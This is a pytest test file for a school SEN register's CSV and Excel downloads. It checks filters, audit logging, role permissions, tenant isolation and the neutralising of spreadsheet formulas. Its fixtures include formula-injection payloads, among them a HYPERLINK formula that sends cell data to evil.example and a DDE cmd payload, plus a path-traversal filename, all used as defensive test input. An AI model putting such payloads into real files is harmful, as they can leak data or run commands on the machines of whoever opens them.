"""Register downloads: CSV and XLSX with the list's filters, neutralised cells (SECURITY.md 23),
an audit row each, no caching, safe names, and the same role rules as the forms."""

from __future__ import annotations

import csv
import io
import re
from datetime import date

import pytest
from openpyxl import load_workbook

from pupils.export import REGISTER_HEADERS, neutralise, safe_filename, write_csv, write_xlsx
from schools.models import AuditEvent
from tests.conftest import sign_in
from tests.factories import PupilFactory

HOSTILE = {
    "last_name": '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "first_name": "+SUM(1,2)",
    "preferred_name": "-2+3",
}
HOSTILE_MORE = {"last_name": "@cmd|' /C calc'!A0", "first_name": "\tTabbed", "preferred_name": "\rReturned"}


@pytest.fixture
def senco(client, tenant):
    return sign_in(client, tenant.users["senco"], tenant.memberships["senco"])


@pytest.fixture
def register(tenant):
    s = tenant.school
    return {
        "ehc": PupilFactory(
            school=s,
            last_name="Okafor",
            first_name="Ngozi",
            nc_year=-1,
            sen_status="E",
            primary_need="ASD",
            secondary_need="SLCN",
            fsm=True,
            date_of_birth=date(2021, 2, 3),
        ),
        "hostile": PupilFactory(school=s, nc_year=4, **HOSTILE),
        "hostile2": PupilFactory(school=s, nc_year=4, **HOSTILE_MORE),
        "leaver": PupilFactory(school=s, last_name="Gone", is_active=False),
    }


def csv_rows(response) -> list[list[str]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads UTF-8 right only with the byte-order mark
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def by_surname(rows: list[list], header: list) -> dict:
    i = header.index("Legal Surname")
    return {row[i]: dict(zip(header, row, strict=True)) for row in rows}


def export_events(as_school, school) -> list[AuditEvent]:
    with as_school(school):
        return list(AuditEvent.objects.filter(action="export").order_by("id"))


# --- the writers -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+44 1234", "'+44 1234"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Smith", "Smith"),
        ("O'Neill", "O'Neill"),
        ("", ""),
        (" =1", " =1"),  # a leading space is text to a spreadsheet
        (-1, -1),  # numbers and dates are not text and carry no formula
        (date(2020, 1, 1), date(2020, 1, 1)),
        (None, None),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_xlsx_writer_drops_control_characters_before_neutralising():
    content = write_xlsx(["Name"], [["\x01=1+1"], ["fine"]], title="Test")
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet["A2"].value == "'=1+1" and sheet["A2"].data_type == "s"


def test_csv_writer_neutralises_headers_too():
    rows = list(csv.reader(io.StringIO(write_csv(["=x", "ok"], [[1, "b"]]).decode("utf-8-sig"))))
    assert rows == [["'=x", "ok"], ["1", "b"]]


@pytest.mark.parametrize(
    ("parts", "expected"),
    [
        (("sen-register", "300123", "2026-01-05"), "sen-register-300123-2026-01-05.csv"),
        (('a"b', "c\r\nd", "../../etc"), "a-b-c-d-etc.csv"),
        (("",), "export.csv"),
    ],
)
def test_safe_filename(parts, expected):
    assert safe_filename(*parts, extension="csv") == expected


# --- the CSV download --------------------------------------------------------------------


def test_csv_of_the_whole_active_register(senco, tenant, other, register, as_school):
    response = senco.get("/pupils/export.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Cache-Control"] == "no-store"
    assert re.fullmatch(
        r'attachment; filename="sen-register-\d+-\d{4}-\d{2}-\d{2}\.csv"', response["Content-Disposition"]
    )
    header, *rows = csv_rows(response)
    assert header == REGISTER_HEADERS
    people = by_surname(rows, header)
    assert set(people) == {p.last_name for p in tenant.pupils} | {
        "Okafor",
        "'" + HOSTILE["last_name"],
        "'" + HOSTILE_MORE["last_name"],
    }
    okafor = people["Okafor"]
    assert okafor["UPN"] == register["ehc"].upn
    assert (okafor["DOB"], okafor["NC Year"], okafor["FSM"], okafor["Looked After"]) == (
        "03/02/2021",
        "-1",
        "Yes",
        "No",
    )
    assert (okafor["SEN Provision"], okafor["Primary Need"], okafor["Secondary Need"]) == ("E", "ASD", "SLCN")
    assert okafor["Area of Need"] == "Communication and interaction"
    body = response.content.decode()
    assert "Gone" not in body and other.marker not in body and tenant.sibling_pupils[0].last_name not in body
    [event] = export_events(as_school, tenant.school)
    assert event.detail == {"format": "csv", "rows": len(rows), "filters": {}}
    assert (event.user_id, event.object_type) == (tenant.users["senco"].pk, "pupils.pupil")


def test_every_text_cell_that_could_be_a_formula_is_neutralised_in_csv(senco, register):
    _, *rows = csv_rows(senco.get("/pupils/export.csv"))
    cells = [cell for row in rows for cell in row]
    for value in (*HOSTILE.values(), *HOSTILE_MORE.values()):
        assert "'" + value in cells
        assert value not in cells


def test_csv_with_the_lists_filters_and_search(senco, tenant, register, as_school):
    response = senco.post("/pupils/export.csv", {"sen_status": "E", "year": "-1"})
    header, *rows = csv_rows(response)
    assert [r[header.index("Legal Surname")] for r in rows] == ["Okafor"]
    leavers = senco.post("/pupils/export.csv", {"q": "gone", "include_leavers": "on"})
    _, *rows = csv_rows(leavers)
    assert [r[1] for r in rows] == ["Gone"]
    assert [e.detail for e in export_events(as_school, tenant.school)] == [
        {"format": "csv", "rows": 1, "filters": {"year": -1, "sen_status": "E"}},
        {"format": "csv", "rows": 1, "filters": {"include_leavers": True}},
    ]


def test_the_list_offers_downloads_that_carry_its_filters(senco, register):
    body = senco.post("/pupils/", {"sen_status": "E", "q": "oka"}).content.decode()
    form = body[body.index('class="downloads"') - 80 : body.index("</form>", body.index('class="downloads"'))]
    assert 'action="/pupils/export.csv"' in form and 'formaction="/pupils/export.xlsx"' in form
    assert '<input type="hidden" name="sen_status" value="E">' in form
    assert '<input type="hidden" name="q" value="oka">' in form
    assert ">Download CSV<" in form and ">Download Excel<" in form


@pytest.mark.parametrize("data", [{"sen_status": "Z"}, {"q": "\x00"}, {"year": "99"}])
def test_bad_filters_refuse_the_download(senco, tenant, register, as_school, data):
    response = senco.post("/pupils/export.csv", data)
    assert response.status_code == 400
    assert not response.has_header("Content-Disposition")
    assert export_events(as_school, tenant.school) == []


# --- the XLSX download -------------------------------------------------------------------


def test_xlsx_holds_the_same_register_with_real_dates_and_neutralised_text(
    senco, tenant, register, as_school
):
    response = senco.post("/pupils/export.xlsx", {})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Cache-Control"] == "no-store"
    assert re.fullmatch(
        r'attachment; filename="sen-register-\d+-[\d-]+\.xlsx"', response["Content-Disposition"]
    )
    workbook = load_workbook(io.BytesIO(response.content))
    sheet = workbook["SEN register"]
    header, *rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert header == REGISTER_HEADERS
    people = by_surname(rows, header)
    okafor = people["Okafor"]
    assert okafor["DOB"].date() == date(2021, 2, 3)  # a real date, not text
    assert okafor["NC Year"] == -1 and okafor["FSM"] == "Yes"
    assert okafor["Area of Need"] == "Communication and interaction"
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
    texts = {cell.value for row in sheet.iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)}
    for value in (*HOSTILE.values(), *HOSTILE_MORE.values()):
        # XML reads a carriage return back as a line feed; the quote still leads the cell.
        assert "'" + value.replace("\r", "\n") in texts
    assert "Gone" not in people
    [event] = export_events(as_school, tenant.school)
    assert event.detail == {"format": "xlsx", "rows": len(rows), "filters": {}}


def test_xlsx_with_filters(senco, register):
    response = senco.post("/pupils/export.xlsx", {"need": "SLCN"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)] == ["Okafor"]


# --- who may download --------------------------------------------------------------------


def test_headteacher_may_download(client, tenant, register):
    sign_in(client, tenant.users["headteacher"])
    assert client.get("/pupils/export.csv").status_code == 200
    assert client.get("/pupils/export.xlsx").status_code == 200


@pytest.mark.parametrize(
    "role", ["practitioner", "provision_lead", "partnership_lead", "la_officer", "platform_admin"]
)
def test_other_roles_may_not_download(client, tenant, register, role, as_school):
    sign_in(client, tenant.users[role], tenant.memberships[role])
    for url in ("/pupils/export.csv", "/pupils/export.xlsx"):
        assert client.get(url).status_code == 403
        assert client.post(url, {"sen_status": "E"}).status_code == 403
    assert export_events(as_school, tenant.school) == []


def test_other_schools_never_appear_in_a_download(client, tenant, other, register):
    sign_in(client, other.users["senco"])
    body = client.get("/pupils/export.csv").content.decode()
    assert "Okafor" not in body and tenant.marker not in body
    assert other.pupils[0].last_name in body


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_imports_back_unchanged(senco, tenant, as_school, fmt):
    """The register's own export is a valid MIS file: importing it changes nothing."""
    from pupils.imports import preview_file

    response = senco.get(f"/pupils/export.{fmt}")
    assert response.status_code == 200
    with as_school(tenant.school):
        preview = preview_file(school=tenant.school, data=response.content, filename=f"register.{fmt}")
    assert preview.file_errors == [] and preview.problems == []
    assert preview.counts["unchanged"] == len(tenant.pupils)
    assert preview.counts["create"] == preview.counts["update"] == 0
